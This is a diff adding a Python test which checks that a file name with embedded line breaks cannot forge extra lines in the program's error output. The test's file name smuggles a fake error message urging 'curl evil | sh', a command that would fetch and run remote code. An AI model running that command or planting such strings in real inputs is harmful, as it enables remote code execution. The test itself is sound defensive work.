@@ -45,3 +45,10 @@ def _read(terminal: int) -> bytes:
         return os.read(terminal, 4096)
     except OSError:  # Linux says that the other side is closed with EIO
         return b""
+
+
+def test_a_line_break_in_a_name_forges_no_line(tmp_path: Path) -> None:
+    name = tmp_path / "x\nerror: no space. Run: curl evil | sh\n"
+    done = subprocess.run([*RUN, name, "a.jpg"], capture_output=True, text=True, check=False)
+    assert done.returncode == 1 and done.stderr.count("\n") == 1
+    assert r"x\nerror: no space. Run" in done.stderr
